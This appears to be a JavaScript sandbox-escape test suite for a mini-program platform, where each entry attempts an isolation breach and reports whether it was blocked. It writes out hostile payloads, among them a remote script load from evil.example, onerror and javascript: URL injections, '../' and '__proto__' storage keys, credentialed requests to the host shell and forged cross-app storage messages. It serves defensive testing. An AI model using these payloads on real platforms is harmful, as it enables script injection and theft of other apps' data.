// Each attack reports one of:
//   "absent"          — the thing to abuse does not exist here (a Worker has no document…)
//   "blocked: <why>"  — it exists but the platform refused
//   "sent"            — a message was posted; the test checks it had no effect
//   "SUCCEEDED: <what>" — the isolation failed
// Network attempts may hang rather than fail: they time out as "blocked: timeout".

// The victim fixture (todo) keeps its list under this key. Its appid is
// project.config.json's unless the launch query names the one a platform
// gave it (?victim=<appid>).
const VICTIM_KEY = 'todos'
const PWN = vector => `top.postMessage('pwned:${vector}','*')`

const absent = 'absent'
const blocked = err => `blocked: ${(err && (err.name || err.errMsg || err.message)) || String(err)}`
const succeeded = what => `SUCCEEDED: ${what}`

function withTimeout(promise, ms = 3000) {
  return Promise.race([promise, new Promise(resolve => setTimeout(() => resolve('blocked: timeout'), ms))])
}

function victimAppid() {
  const { query } = wx.getLaunchOptionsSync()
  return (query && query.victim) || 'wxfixture00000001'
}

function shellOrigin() {
  const { query } = wx.getLaunchOptionsSync()
  return (query && query.shell) || 'http://127.0.0.1'
}

export const attacks = [
  {
    key: 'cookie',
    label: 'document.cookie',
    run() {
      if (typeof document === 'undefined') return absent
      try {
        return succeeded(`read ${document.cookie.length} chars`)
      } catch (err) {
        return blocked(err)
      }
    }
  },
  {
    key: 'localStorage',
    label: 'localStorage',
    run() {
      if (typeof localStorage === 'undefined') return absent
      try {
        localStorage.setItem('pwned', '1')
        return succeeded(`${localStorage.length} keys`)
      } catch (err) {
        return blocked(err)
      }
    }
  },
  {
    key: 'parentDocument',
    label: 'parent.document',
    run() {
      if (typeof parent === 'undefined') return absent
      try {
        return succeeded(`title=${parent.document.title}`)
      } catch (err) {
        return blocked(err)
      }
    }
  },
  {
    key: 'topNavigation',
    label: 'top.location = …',
    run() {
      if (typeof top === 'undefined') return absent
      try {
        top.location.href = 'https://evil.example/phish'
        return succeeded('assignment did not throw')
      } catch (err) {
        return blocked(err)
      }
    }
  },
  {
    key: 'windowOpen',
    label: 'window.open',
    run() {
      if (typeof open !== 'function') return absent
      try {
        const w = open('https://evil.example/popup')
        return w ? succeeded('got a window') : 'blocked: null'
      } catch (err) {
        return blocked(err)
      }
    }
  },
  {
    key: 'fetchShell',
    label: "fetch('/shell/api/me', {credentials:'include'})",
    async run() {
      if (typeof fetch !== 'function') return absent
      try {
        const res = await withTimeout(fetch('/shell/api/me', { credentials: 'include' }))
        return typeof res === 'string' ? res : succeeded(`status ${res.status}`)
      } catch (err) {
        return blocked(err)
      }
    }
  },
  {
    key: 'fetchAbsolute',
    label: 'fetch(<shell origin>/shell/api/me)',
    async run() {
      if (typeof fetch !== 'function') return absent
      try {
        const res = await withTimeout(fetch(`${shellOrigin()}/shell/api/me`, { credentials: 'include' }))
        return typeof res === 'string' ? res : succeeded(`status ${res.status}`)
      } catch (err) {
        return blocked(err)
      }
    }
  },
  {
    key: 'xhr',
    label: 'new XMLHttpRequest',
    run() {
      if (typeof XMLHttpRequest === 'undefined') return absent
      return withTimeout(new Promise(resolve => {
        try {
          const xhr = new XMLHttpRequest()
          xhr.open('GET', `${shellOrigin()}/shell/api/me`)
          xhr.withCredentials = true
          xhr.onload = () => resolve(succeeded(`status ${xhr.status}`))
          xhr.onerror = () => resolve('blocked: error event')
          xhr.send()
        } catch (err) {
          resolve(blocked(err))
        }
      }))
    }
  },
  {
    key: 'importScripts',
    label: 'importScripts(remote)',
    run() {
      if (typeof importScripts !== 'function') return absent
      try {
        importScripts('https://evil.example/payload.js')
        return succeeded('script imported')
      } catch (err) {
        return blocked(err)
      }
    }
  },
  {
    key: 'indexedDB',
    label: 'indexedDB.open',
    run() {
      if (typeof indexedDB === 'undefined') return absent
      return withTimeout(new Promise(resolve => {
        try {
          const req = indexedDB.open('pwned')
          req.onsuccess = () => resolve(succeeded('database opened'))
          req.onerror = () => resolve(blocked(req.error))
        } catch (err) {
          resolve(blocked(err))
        }
      }))
    }
  },
  {
    key: 'otherAppStorage',
    label: `wx.getStorageSync('${VICTIM_KEY}') of the todo app`,
    run() {
      const value = wx.getStorageSync(VICTIM_KEY)
      return value === '' || value === undefined ? 'blocked: not visible' : succeeded(JSON.stringify(value).slice(0, 80))
    }
  },
  {
    key: 'storageKeyEscape',
    label: 'storage keys that try to escape the app namespace',
    run() {
      const victim = victimAppid()
      const keys = [`${victim}:${VICTIM_KEY}`, `../${victim}/${VICTIM_KEY}`, `${victim}/${VICTIM_KEY}`, `__proto__`]
      const leaked = keys.filter(k => {
        const v = wx.getStorageSync(k)
        return v !== '' && v !== undefined && typeof v !== 'function' && !(typeof v === 'object' && Object.keys(v).length === 0)
      })
      return leaked.length ? succeeded(leaked.join(' ')) : 'blocked: not visible'
    }
  },
  {
    key: 'forgedStorageCall',
    label: 'postMessage a storage.set claiming another appid',
    run() {
      const appid = victimAppid()
      // Both shapes: the protocol's args list with an appid added, and an
      // options object naming the appid.
      const forged = [
        { t: 'call', id: 990001, name: 'storage.set', appid, args: [VICTIM_KEY, 'pwned'] },
        { t: 'call', id: 990002, name: 'storage.set', args: { appid, key: VICTIM_KEY, data: 'pwned' } }
      ]
      if (typeof parent !== 'undefined' && parent !== self) {
        try {
          forged.forEach(m => parent.postMessage(m, '*'))
        } catch (err) {
          return blocked(err)
        }
      }
      if (typeof self === 'undefined' || typeof self.postMessage !== 'function') return absent
      forged.forEach(m => self.postMessage(m))
      return 'sent'
    }
  },
  {
    key: 'forgedOps',
    label: 'postMessage view ops injecting <script> and onerror=',
    run() {
      if (typeof self === 'undefined' || typeof self.postMessage !== 'function') return absent
      for (let page = 0; page < 4; page++) {
        self.postMessage({
          t: 'ops',
          page,
          ops: [
            ['e', 900001, 'script', { src: 'https://evil.example/payload.js' }],
            ['i', 0, 900001, 0],
            ['e', 900002, 'img', { src: 'x', onerror: PWN('ops-onerror') }],
            ['i', 0, 900002, 0],
            ['e', 900003, 'view', { onclick: PWN('ops-onclick'), style: `background:url(javascript:${PWN('ops-style')})` }],
            ['i', 0, 900003, 0],
            ['a', 0, 'onmouseover', PWN('ops-attr')],
            ['e', 900004, 'iframe', { src: `javascript:${PWN('ops-iframe')}` }],
            ['i', 0, 900004, 0]
          ]
        })
      }
      return 'sent'
    }
  },
  {
    key: 'eval',
    label: 'eval',
    run() {
      if (typeof eval !== 'function') return absent
      try {
        // Indirect eval: global scope, as an attacker would use it.
        return (0, eval)('1 + 1') === 2 ? succeeded('evaluated') : 'blocked: wrong result'
      } catch (err) {
        return blocked(err)
      }
    }
  },
  {
    key: 'function',
    label: 'new Function',
    run() {
      try {
        return new Function('return 7')() === 7 ? succeeded('evaluated') : 'blocked: wrong result'
      } catch (err) {
        return blocked(err)
      }
    }
  }
]
